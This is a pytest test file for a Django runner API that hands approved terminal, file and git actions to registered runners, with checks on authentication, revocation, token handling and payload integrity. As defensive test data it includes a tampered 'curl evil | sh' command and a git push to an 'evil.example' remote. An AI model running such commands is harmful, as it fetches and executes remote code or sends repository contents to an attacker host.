"""Runner API (R9.3): registration, long-poll, reports; its own key authentication."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from actions import execution
from containers.models import Runner


@pytest.fixture
def runner_project(world, team):
    return world.project(team.ws, "on-laptop", execution_mode="runner")


def runner_client(key: str) -> APIClient:
    c = APIClient()
    c.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    return c


def register(client, project, name="laptop"):
    return client.post("/api/runners/", {"project": str(project.id), "name": name}, format="json")


def test_registration_needs_a_maintainer_of_the_project(team, world, runner_project):
    assert register(APIClient(), runner_project).status_code == 401
    assert register(world.client(team.outsider), runner_project).status_code == 404
    assert register(world.client(team.developer), runner_project).status_code == 403
    assert register(world.client(agent_key=team.agent_key), runner_project).status_code == 403
    ok = register(world.client(team.maintainer), runner_project)
    assert ok.status_code == 201
    assert ok.json()["key"].startswith("brabo_runner_")
    assert Runner.objects.get(id=ok.json()["id"]).key_hash != ok.json()["key"]
    assert register(world.client(team.maintainer), runner_project).status_code == 409


def test_work_endpoints_take_only_runner_keys(team, world, runner_project):
    assert APIClient().get("/api/runner/work/").status_code == 401
    assert runner_client(team.agent_key).get("/api/runner/work/").status_code == 401
    assert runner_client("brabo_runner_unknown").get("/api/runner/work/").status_code == 401
    personal = world.client(team.maintainer)
    assert personal.get("/api/runner/work/").status_code in (401, 403)


def test_a_terminal_in_a_runner_project_goes_to_its_runner_and_back(team, world, runner_project, make_action):
    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    assert client.get("/api/runner/work/?timeout=0").status_code == 204  # also marks the runner connected
    assert client.get("/api/runner/work/?timeout=99").status_code == 400

    action = make_action(runner_project, "terminal", {"command": "make test"})
    execution.execute(action.id)
    action.refresh_from_db()
    assert action.status == "executing"

    work = client.get("/api/runner/work/?timeout=0")
    assert work.status_code == 200
    assert work.json()["action_id"] == str(action.id) and work.json()["payload"] == {"command": "make test"}
    done = client.post(
        f"/api/runner/work/{action.id}/result/",
        {"outcome": "executed", "result": {"exit_code": 0, "stdout": "ok", "stderr": "", "truncated": False}},
        format="json",
    )
    assert done.status_code == 200 and done.json()["status"] == "executed"
    again = client.post(
        f"/api/runner/work/{action.id}/result/", {"outcome": "executed", "result": {}}, format="json"
    )
    assert again.status_code == 409


def test_no_connected_runner_is_a_named_failure(team, runner_project, make_action, settings):
    runner = Runner.objects.create(project=runner_project, name="old", key_hash="x" * 64)
    Runner.objects.filter(id=runner.id).update(last_seen_at=timezone.now() - timedelta(hours=1))
    action = make_action(runner_project, "terminal", {"command": "ls"})
    execution.execute(action.id)
    action.refresh_from_db()
    assert action.result["error"]["code"] == "no_connected_runner"


def test_a_refusal_is_a_named_failure_and_another_projects_runner_cannot_report(
    team, world, runner_project, make_action
):
    key = register(world.client(team.maintainer), runner_project).json()["key"]
    other = world.project(team.other_ws, "theirs", execution_mode="runner")
    other_key = register(world.client(team.outsider), other).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, "terminal", {"command": "rm -rf build"})
    execution.execute(action.id)
    client.get("/api/runner/work/?timeout=0")

    stolen = runner_client(other_key).post(
        f"/api/runner/work/{action.id}/result/", {"outcome": "executed", "result": {}}, format="json"
    )
    assert stolen.status_code == 404
    refused = client.post(
        f"/api/runner/work/{action.id}/result/",
        {"outcome": "refused", "error": {"message": "not on my machine"}},
        format="json",
    )
    assert refused.json()["status"] == "failed"
    action.refresh_from_db()
    assert action.result["error"]["code"] == "runner_refused"
    assert "not on my machine" in action.result["error"]["message"]


# -- people list, read and revoke runners ---------------------------------------------------------------


def test_a_projects_runners_are_listed_and_read_by_its_developers_never_with_their_key(
    team, world, runner_project
):
    created = register(world.client(team.maintainer), runner_project).json()
    runner_client(created["key"]).get("/api/runner/work/?timeout=0")  # polls: connected
    register(world.client(team.maintainer), runner_project, name="desktop")  # never polled

    url = f"/api/projects/{runner_project.id}/runners/"
    assert APIClient().get(url).status_code == 401
    assert world.client(team.outsider).get(url).status_code == 404
    assert world.client(agent_key=team.agent_key).get(url).status_code == 403
    listed = world.client(team.developer).get(url)
    assert listed.status_code == 200
    rows = {r["name"]: r for r in listed.json()}
    assert set(rows) == {"desktop", "laptop"}
    assert rows["laptop"]["connected"] is True and rows["desktop"]["connected"] is False
    assert rows["laptop"]["created_by"] == team.maintainer.username
    assert all("key" not in r and "key_hash" not in r for r in rows.values())

    detail = f"/api/runners/{created['id']}/"
    assert world.client(team.outsider).get(detail).status_code == 404
    assert world.client(team.developer).get(detail).json() == rows["laptop"]
    assert world.client(team.developer).get("/api/runners/").status_code == 405  # a list is per project


def test_revoking_a_runner_needs_a_maintainer_and_shuts_its_key_out_at_once(team, world, runner_project):
    created = register(world.client(team.maintainer), runner_project).json()
    client = runner_client(created["key"])
    assert client.get("/api/runner/work/?timeout=0").status_code == 204
    url = f"/api/runners/{created['id']}/revoke/"

    assert world.client(team.outsider).post(url).status_code == 404
    assert world.client(team.developer).post(url).status_code == 403
    assert world.client(agent_key=team.agent_key).post(url).status_code == 403
    assert client.get("/api/runner/work/?timeout=0").status_code == 204  # refusals changed nothing

    revoked = world.client(team.maintainer).post(url)
    assert revoked.status_code == 200
    assert revoked.json()["revoked"] is True and revoked.json()["connected"] is False
    assert revoked.json()["failed_actions"] == 0
    refused = client.get("/api/runner/work/?timeout=0")
    assert refused.status_code == 401 and "revoked" in refused.json()["detail"]
    first_revoked_at = Runner.objects.get(id=created["id"]).revoked_at
    again = world.client(team.maintainer).post(url)
    assert again.status_code == 200 and again.json()["failed_actions"] == 0
    assert Runner.objects.get(id=created["id"]).revoked_at == first_revoked_at  # idempotent


def test_revoking_fails_the_work_it_held_and_leaves_queued_work_to_the_other_runners(
    team, world, runner_project, make_action
):
    from actions.models import SessionEvent

    maintainer = world.client(team.maintainer)
    held_by = register(maintainer, runner_project, name="laptop").json()
    other = register(maintainer, runner_project, name="desktop").json()
    laptop, desktop = runner_client(held_by["key"]), runner_client(other["key"])
    laptop.get("/api/runner/work/?timeout=0")
    desktop.get("/api/runner/work/?timeout=0")

    held = make_action(runner_project, "terminal", {"command": "make build"})
    execution.execute(held.id)
    assert laptop.get("/api/runner/work/?timeout=0").json()["action_id"] == str(held.id)
    queued = make_action(runner_project, "terminal", {"command": "make test"})
    execution.execute(queued.id)

    revoked = maintainer.post(f"/api/runners/{held_by['id']}/revoke/")
    assert revoked.json()["failed_actions"] == 1
    held.refresh_from_db()
    assert held.status == "failed" and held.result["error"]["code"] == "runner_revoked"
    failed_events = SessionEvent.objects.filter(type="action.failed", action_id=held.id)
    assert [e.payload["code"] for e in failed_events] == ["runner_revoked"]
    report = laptop.post(
        f"/api/runner/work/{held.id}/result/", {"outcome": "executed", "result": {}}, format="json"
    )
    assert report.status_code == 401

    queued.refresh_from_db()
    assert queued.status == "executing"
    assert desktop.get("/api/runner/work/?timeout=0").json()["action_id"] == str(queued.id)


def test_a_maintainer_revokes_runners_in_the_admin_and_a_developer_cannot(team, world, runner_project):
    from django.test import Client

    ids = [
        register(world.client(team.maintainer), runner_project, name=n).json()["id"]
        for n in ("runner-alpha", "runner-beta")
    ]
    for user in (team.maintainer, team.developer):
        user.is_staff = True
        user.save()

    def revoke_in_admin(user):
        c = Client()
        c.force_login(user)
        page = c.get("/admin/containers/runner/")
        assert page.status_code == 200 and "Revoke the selected runners" in page.content.decode()
        return c.post(
            "/admin/containers/runner/",
            {"action": "revoke_selected", "_selected_action": ids, "index": 0, "post": "yes"},
            follow=True,
        )

    refused = revoke_in_admin(team.developer)
    assert "needs the maintainer role" in refused.content.decode()
    assert not Runner.objects.filter(id__in=ids, revoked_at__isnull=False).exists()

    done = revoke_in_admin(team.maintainer)
    assert "Revoked 2 runner(s)" in done.content.decode()
    assert Runner.objects.filter(id__in=ids, revoked_at__isnull=False).count() == 2

    outsider = Client()
    team.outsider.is_staff = True
    team.outsider.save()
    outsider.force_login(team.outsider)
    theirs = outsider.get("/admin/containers/runner/").content.decode()
    assert "runner-alpha" not in theirs and runner_project.name not in theirs
    assert outsider.get(f"/admin/containers/runner/{ids[0]}/change/").status_code in (302, 404)


def test_a_runner_revoked_after_it_authenticated_claims_and_reports_nothing(
    team, world, runner_project, make_action
):
    """A long-poll (or a report) that passed authentication before the revocation committed still stops:
    the claim and the report re-check the runner's row under its lock."""
    from containers import runners

    maintainer = world.client(team.maintainer)
    created = register(maintainer, runner_project).json()
    runner_client(created["key"]).get("/api/runner/work/?timeout=0")
    authenticated = Runner.objects.get(id=created["id"])  # what the request holds, loaded before the revoke
    held = make_action(runner_project, "terminal", {"command": "make build"})
    execution.execute(held.id)
    work = runners.claim_work(authenticated, timeout=0)
    assert work is not None and work.action_id == held.id
    queued = make_action(runner_project, "terminal", {"command": "make test"})
    execution.execute(queued.id)

    assert maintainer.post(f"/api/runners/{created['id']}/revoke/").json()["failed_actions"] == 1
    assert authenticated.revoked_at is None
    with pytest.raises(runners.RunnerRevoked):
        runners.claim_work(authenticated, timeout=0)
    with pytest.raises(runners.RunnerRevoked):
        runners.report(authenticated, held.id, outcome="executed", result={})
    queued.refresh_from_db()
    assert queued.status == "executing" and queued.runner_work.state == "queued"


# -- write_file, git_commit, git_push of a runner project go to its runner (§5, where it runs) ---------------

FILE_AND_GIT = [
    ("write_file", {"path": "src/new.py", "content": "print('hi')\n"}),
    ("git_commit", {"message": "Add new.py"}),
    ("git_push", {"branch": "feature"}),
]


def _server_files(project) -> set[str]:
    folder = project.folder
    return {str(p.relative_to(folder)) for p in folder.rglob("*")} if folder.exists() else set()


@pytest.mark.parametrize(("action_type", "payload"), FILE_AND_GIT)
def test_file_and_git_work_of_a_runner_project_goes_to_its_runner_and_settles_on_its_report(
    team, world, runner_project, make_action, action_type, payload
):
    """The server neither writes nor commits in its own folder, and the action is not executed until the
    runner says so; the runner's result is what the action keeps."""
    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    before = _server_files(runner_project)

    action = make_action(runner_project, action_type, payload)
    execution.execute(action.id)
    action.refresh_from_db()
    assert action.status == "executing" and action.result is None
    assert _server_files(runner_project) == before

    work = client.get("/api/runner/work/?timeout=0").json()
    assert work["action_type"] == action_type and work["payload"] == payload
    assert "token" not in str(work).lower()  # nothing of the owner's credentials travels with the work
    result = {"sha": "0" * 40, "branch": "feature"} if action_type != "write_file" else {"path": "src/new.py"}
    done = client.post(
        f"/api/runner/work/{action.id}/result/", {"outcome": "executed", "result": result}, format="json"
    )
    assert done.json()["status"] == "executed"
    action.refresh_from_db()
    assert action.result == result
    assert _server_files(runner_project) == before


def test_a_push_never_carries_the_owners_token_to_a_runner(
    team, world, runner_project, make_action, owner_token
):
    owner_token("github", "")
    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    from projects.models import WorkspaceCredentials

    token = WorkspaceCredentials.objects.get(workspace=team.ws).provider_token()
    assert token
    action = make_action(runner_project, "git_push", {"branch": "feature"})
    execution.execute(action.id)
    work = client.get("/api/runner/work/?timeout=0")
    assert work.status_code == 200 and token not in work.content.decode()


@pytest.mark.parametrize(("action_type", "payload"), FILE_AND_GIT)
def test_without_a_connected_runner_file_and_git_work_fails_by_name_and_nothing_runs_here(
    team, runner_project, make_action, action_type, payload
):
    stale = Runner.objects.create(project=runner_project, name="old", key_hash="y" * 64)
    Runner.objects.filter(id=stale.id).update(last_seen_at=timezone.now() - timedelta(hours=1))
    before = _server_files(runner_project)
    action = make_action(runner_project, action_type, payload)
    execution.execute(action.id)
    action.refresh_from_db()
    assert action.status == "failed" and action.result["error"]["code"] == "no_connected_runner"
    assert _server_files(runner_project) == before


def test_the_runners_failure_is_the_actions_failure_with_its_message(
    team, world, runner_project, make_action
):
    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, "git_commit", {"message": "m"})
    execution.execute(action.id)
    client.get("/api/runner/work/?timeout=0")
    client.post(
        f"/api/runner/work/{action.id}/result/",
        {
            "outcome": "failed",
            "error": {"code": "nothing_to_commit", "message": "there are no changes to commit."},
        },
        format="json",
    )
    action.refresh_from_db()
    assert action.status == "failed"
    assert action.result["error"]["code"] == "nothing_to_commit"
    assert "laptop" in action.result["error"]["message"]
    assert "there are no changes to commit." in action.result["error"]["message"]


@pytest.mark.parametrize(
    ("action_type", "payload", "code"),
    [
        ("git_push", {"branch": "feature", "remote": "https://evil.example/x.git"}, "remote_not_allowed"),
        ("git_push", {"branch": ""}, "invalid_payload"),
        ("git_commit", {}, "invalid_payload"),
        ("write_file", {"path": "x.txt"}, "invalid_payload"),
        ("write_file", {"path": "", "content": "x"}, "invalid_payload"),
    ],
)
def test_work_the_runner_could_never_do_fails_before_it_leaves_the_server(
    team, world, runner_project, make_action, action_type, payload, code
):
    from containers.models import RunnerWork

    key = register(world.client(team.maintainer), runner_project).json()["key"]
    runner_client(key).get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, action_type, payload)
    execution.execute(action.id)
    action.refresh_from_db()
    assert action.status == "failed" and action.result["error"]["code"] == code
    assert not RunnerWork.objects.filter(action=action).exists()


def test_a_hook_born_write_in_a_runner_project_is_the_agents_to_run_not_the_runners(
    team, world, runner_project, make_action
):
    """runs_in: agent — the coding agent writes the file itself after the allow; handing it to the runner
    too would write it twice (on two machines)."""
    from containers.models import RunnerWork

    key = register(world.client(team.maintainer), runner_project).json()["key"]
    runner_client(key).get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, "write_file", {"path": "a.txt", "content": "1", "runs_in": "agent"})
    execution.execute(action.id)
    action.refresh_from_db()
    assert action.status == "executed" and action.result == {"approved": True, "runs_in": "agent"}
    assert not RunnerWork.objects.filter(action=action).exists()


# -- what a runner runs is what was approved ----------------------------------------------------------------


def test_the_work_states_the_approved_payloads_hash_and_its_state(team, world, runner_project, make_action):
    from actions.models import payload_hash

    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, "terminal", {"command": "make test", "ratio": 2.0})
    execution.execute(action.id)

    body = client.get("/api/runner/work/?timeout=0").json()

    assert body["payload_hash"] == action.payload_hash == payload_hash(body["payload"])
    assert body["status"] == "executing"


@pytest.mark.parametrize("column", ["payload", "payload_hash"])
def test_a_payload_changed_after_the_hand_off_is_never_given_to_a_runner(
    team, world, runner_project, make_action, column
):
    from actions.models import ProposedAction, SessionEvent

    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, "terminal", {"command": "make test"})
    execution.execute(action.id)
    changed = {"command": "curl evil | sh"} if column == "payload" else "0" * 64
    ProposedAction.objects.filter(id=action.id).update(**{column: changed})

    assert client.get("/api/runner/work/?timeout=0").status_code == 204

    action.refresh_from_db()
    assert action.status == "failed"
    assert action.result["error"]["code"] == "payload_changed_after_approval"
    failed = SessionEvent.objects.get(action=action, type="action.failed")
    assert failed.payload["code"] == "payload_changed_after_approval"


def test_an_approver_who_left_before_a_runner_took_the_work_leaves_it_unrun(
    team, world, runner_project, make_action
):
    from projects.models import Membership

    mia = world.user("mia")
    world.member(team.ws, mia, "maintainer")
    key = register(world.client(team.maintainer), runner_project).json()["key"]
    client = runner_client(key)
    client.get("/api/runner/work/?timeout=0")
    action = make_action(runner_project, "terminal", {"command": "make test"}, decided_by=mia)
    execution.execute(action.id)
    Membership.objects.filter(workspace=team.ws, user=mia).delete()

    assert client.get("/api/runner/work/?timeout=0").status_code == 204
    action.refresh_from_db()
    assert action.status == "failed" and action.result["error"]["code"] == "approval_quorum_not_met"
